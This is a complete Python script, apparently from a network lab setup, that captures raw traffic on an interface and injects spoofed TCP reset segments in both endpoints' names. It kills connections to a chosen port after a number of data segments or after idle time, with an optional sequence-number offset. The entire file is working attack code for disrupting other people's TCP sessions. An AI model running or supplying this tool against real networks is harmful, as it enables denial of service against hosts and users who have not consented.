"""A middlebox that resets other people's connections: ``forge.py INTERFACE PORT WHEN TOWARDS [BEHIND]``, in core-sw.

WHEN is a number of data segments, or ``idle:SECONDS`` without any; BEHIND is by how many bytes its sequence numbers are
out of date.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Iterator

EVERY_PROTOCOL = 0x0003
"""A socket for one protocol would not be shown what the device itself sends."""
ETH_IPV4 = b"\x08\x00"
OUTGOING = 4
PATIENCE_S = 60.0
BEHIND_GIVEN = 5
RST, RST_ACK = 4, 0x14


class Segment(NamedTuple):
    """What a forged reset is made from."""

    src: bytes
    dst: bytes
    sport: int
    dport: int
    seq: int
    ack: int
    payload: int
    flags: int


NOTHING = Segment(b"", b"", 0, 0, 0, 0, 0, 0)


def main() -> None:
    """Wait for the moment, then send resets in both ends' names."""
    interface, port, when, towards = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    behind = int(sys.argv[5]) if len(sys.argv) > BEHIND_GIVEN else 0
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY_PROTOCOL))
    sniffer.bind((interface, EVERY_PROTOCOL))
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sys.stdout.write("listening\n")
    sys.stdout.flush()
    if when.startswith("idle:"):
        for segment in idle_ones(sniffer, port, float(when.removeprefix("idle:"))):
            strike(sender, segment, towards, behind)
        return
    seen = 0
    for segment in segments(sniffer, port):
        seen += segment.payload > 0
        if seen == int(when):
            strike(sender, segment, towards, behind)
            return


def segments(sniffer: socket.socket, port: int, wait_s: float = 1.0) -> Iterator[Segment]:
    """Yield the segments on their way to *port*; one without addresses when none came for a while."""
    sniffer.settimeout(wait_s)
    end = time.monotonic() + PATIENCE_S
    while time.monotonic() < end:
        try:
            frame, address = sniffer.recvfrom(65_536)
        except TimeoutError:
            yield NOTHING
            continue
        segment = parse(frame) if address[2] == OUTGOING else None
        if segment is not None and segment.dport == port and not segment.flags & RST:
            yield segment
        else:
            yield NOTHING


def idle_ones(sniffer: socket.socket, port: int, idle_s: float) -> Iterator[Segment]:
    """Yield the last segment of each connection that has been silent for so long, once."""
    last: dict[int, tuple[float, Segment]] = {}
    for segment in segments(sniffer, port, 0.02):
        now = time.monotonic()
        if segment is not NOTHING:
            last[segment.sport] = (now, segment)
        for sport in [p for p, (seen, _) in last.items() if now - seen >= idle_s]:
            yield last.pop(sport)[1]


def parse(frame: bytes) -> Segment | None:
    """Return the fields of a TCP segment."""
    if frame[12:14] != ETH_IPV4 or frame[23] != socket.IPPROTO_TCP:
        return None
    header = (frame[14] & 15) * 4
    at = 14 + header
    total = struct.unpack("!H", frame[16:18])[0]
    sport, dport, seq, ack = struct.unpack("!HHII", frame[at : at + 12])
    payload = total - header - (frame[at + 12] >> 4) * 4
    return Segment(frame[26:30], frame[30:34], sport, dport, seq, ack, payload, frame[at + 13])


def strike(sender: socket.socket, s: Segment, towards: str, behind: int) -> None:
    """Send the resets."""
    following = (s.seq + s.payload - behind) & 0xFFFFFFFF
    if towards in {"server", "both"}:
        _send(sender, s.src, s.dst, s.sport, s.dport, following)
    if towards in {"client", "both"}:
        _send(sender, s.dst, s.src, s.dport, s.sport, (s.ack - behind) & 0xFFFFFFFF)


def _send(sender: socket.socket, src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> None:
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, RST, 0, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), 0x1234, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    sender.sendto(ip + head, (socket.inet_ntoa(dst), 0))


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


if __name__ == "__main__":
    main()
